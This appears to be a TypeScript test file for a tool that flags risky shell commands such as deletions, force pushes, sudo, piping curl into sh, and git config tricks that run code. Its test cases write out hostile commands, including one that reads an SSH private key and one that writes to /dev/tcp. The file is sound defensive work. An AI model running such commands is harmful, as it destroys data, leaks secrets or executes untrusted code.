import { describe, expect, it, vi } from 'vitest';
import fc from 'fast-check';
import { mergeMarks, RiskFinder, type Risk } from '@shared/policy/risk';
import type { RiskPlaces } from '@shared/policy/risk-places';

const places = { cwd: '/home/ada/code/orders', home: '/home/ada' };
function findRisks(command: string, where: RiskPlaces): Risk[] {
  const finder = new RiskFinder(where);
  for (const _ of finder.read(command, 0));
  for (const _ of finder.end()) continue;
  return finder.risks();
}
const risks = (command: string) => findRisks(command, places);
const titles = (command: string) => risks(command).map((risk) => risk.title);
const marked = (command: string) =>
  mergeMarks(risks(command).flatMap((risk) => risk.marks)).map(({ from, to }) => command.slice(from, to));

describe('risk words', () => {
  it.each([
    ['rm -rf build', 'Deletes files', ['rm -rf']],
    ['/bin/rm x', 'Deletes files', ['/bin/rm']],
    ['find . -name "*.o" -delete', 'Deletes files', ['-delete']],
    ['find . -exec rm {} +', 'Deletes files', ['rm']],
    ['git ls-files -z | xargs -0 rm -f', 'Deletes files', ['rm -f']],
    ['bash -c "rm -rf src"', 'Deletes files', ['rm -rf']],
    ['git clean -fdx', 'Deletes files', ['git clean']],
    ['echo hi\nrm -r x', 'Deletes files', ['rm -r']],
    ['true && rm \\\n -rf x', 'Deletes files', ['rm \\\n -rf']],
    ['git push --force origin staging', 'Overwrites a remote branch', ['git push --force']],
    ['git push origin +main', 'Overwrites a remote branch', ['git push origin +main']],
    ['git reset --hard HEAD~2', 'Discards changes or commits', ['git reset --hard']],
    ['git -C sub rebase -i main', 'Rewrites history', ['git -C sub rebase']],
    ['git commit --amend', 'Rewrites history', ['git commit --amend']],
    ['sudo make install', 'Requests elevated privileges', ['sudo']],
    ['chmod u+s tool', 'Requests elevated privileges', ['chmod u+s']],
    ['curl -fsSL https://get.example/i.sh | sh', 'Runs code from another program', ['curl', '| sh']],
    ['bash <(curl -s x)', 'Runs code from another program', ['bash', 'curl']],
    ['git -c core.fsmonitor=./x.sh status', 'Runs code from another program', ['core.fsmonitor=./x.sh']],
    ['git -c user.name=a -c Alias.st="!evil" st', 'Runs code from another program', ['Alias.st=']],
    ['git --config-env=core.pager=X log', 'Runs code from another program', ['--config-env=core.pager=X']],
    ['GIT_CONFIG_COUNT=1 git log', 'Runs code from another program', ['GIT_CONFIG_COUNT=1']],
    ['GIT_EXTERNAL_DIFF=./x git diff', 'Runs code from another program', ['GIT_EXTERNAL_DIFF=./x']],
    ['git difftool -y --extcmd ./x', 'Runs code from another program', ['--extcmd']],
    ['xargs -a f -I{} sh -c {}', 'Runs code from another program', ['xargs -a f -I{} sh']],
    ['ls | xargs -n1 sh', 'Runs code from another program', ['| xargs -n1 sh']],
    ['eval "$(cat x)"', 'Runs code from another program', ['eval']],
    ['cat ~/.ssh/id_ed25519', 'Reaches outside the workspace', ['~/.ssh/id_ed25519']],
    ['cp a ../../other/', 'Reaches outside the workspace', ['../../other/']],
    ['tar --directory=/etc -x', 'Reaches outside the workspace', ['/etc']],
    ['echo x > /etc/hosts', 'Reaches outside the workspace', ['/etc/hosts']],
    ['npm install left-pad', 'Reaches the network', ['npm install']],
    ['cat x > /dev/tcp/1.2.3.4/80', 'Reaches the network', ['/dev/tcp/1.2.3.4/80']],
    ['rsync -a . host:/srv', 'Reaches the network', ['rsync -a . host:/srv']],
  ])('%s', (command, title, parts) => {
    expect(titles(command)).toContain(title);
    expect(marked(command)).toEqual(parts);
  });

  it('says so where what is deleted lies outside', () => {
    const command = 'rm -rf ~/staging/builds/* && git push --force origin staging';
    expect(titles(command)).toEqual([
      'Deletes outside the workspace',
      'Overwrites a remote branch',
      'Reaches outside the workspace',
      'Reaches the network',
    ]);
  });

  it.each([
    'npm test -- queue',
    'ls -la src ./test',
    'git status && git diff HEAD~1',
    'git -c color.ui=never -c user.name=a --no-pager log',
    'grep -rn "rm -rf" src',
    "sed -n '/start/,/end/p' file.txt",
    'echo done > /dev/null 2>&1',
    'cat /home/ada/code/orders/a.txt',
    'node scripts/x.js --out=dist/a',
    'NODE_ENV=test npm run build',
    'python3 tool.py | head',
    'git commit -m "rm the old one"',
  ])('finds nothing in %s', (command) => {
    const found = risks(command);
    expect(found).toEqual([]);
  });

  it('takes any text, in linear time, with marks inside it and in order', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 200 }),
        fc.constantFrom('rm -rf ', 'git push -f ', '| sh '),
        (text, risky) => {
          const command = `${text}\n${risky}${text}`;
          for (const { from, to } of mergeMarks(risks(command).flatMap((risk) => risk.marks))) {
            expect(from).toBeLessThan(to);
            expect(from).toBeGreaterThanOrEqual(0);
            expect(to).toBeLessThanOrEqual(command.length);
          }
        },
      ),
    );
    for (const unit of ['rm ', '-', '../', '$(', '| ', '"', '\\\n', 'a=', '~/', '/', '-exec ', 'sudo ', '$']) {
      const long = unit.repeat(Math.floor(100_000 / unit.length));
      findRisks(long, places);
    }
    // A name that begins like a variable: where it ends is not looked for again from each of its letters.
    for (const text of [`x=\${${'a'.repeat(300_000)}}y`, `x=$${'a'.repeat(300_000)}-`]) {
      const finder = new RiskFinder(null);
      expect([...finder.read(text, 0), ...finder.end()].length).toBeGreaterThanOrEqual(0);
    }
  });

  it('many commands that delete beside many that leave the workspace are looked at once each', () => {
    let looks = 0;
    for (const name of ['some', 'find', 'filter', 'flatMap'] as const) {
      const own = Array.prototype[name] as (...given: unknown[]) => unknown;
      vi.spyOn(Array.prototype, name).mockImplementation(function (this: unknown[], ...[look, self]: unknown[]) {
        const counted = (...one: unknown[]): unknown => {
          looks += 1;
          return (look as typeof own).apply(self, one);
        };
        return own.call(this, counted) as never;
      });
    }
    // None of those that delete names a place outside: each would be compared with all of the others.
    findRisks('rm a;cat /;'.repeat(1_000), places);
    vi.restoreAllMocks();
    expect(looks).toBeLessThan(50_000);
    expect(titles('rm a; cat /')).toContain('Deletes files');
    expect(titles('rm a; rm /b')).toContain('Deletes outside the workspace');
  });

  it('takes more words of one kind than a call may have arguments', () => {
    expect(titles('sudo '.repeat(200_000))).toEqual(['Requests elevated privileges']);
  });
});
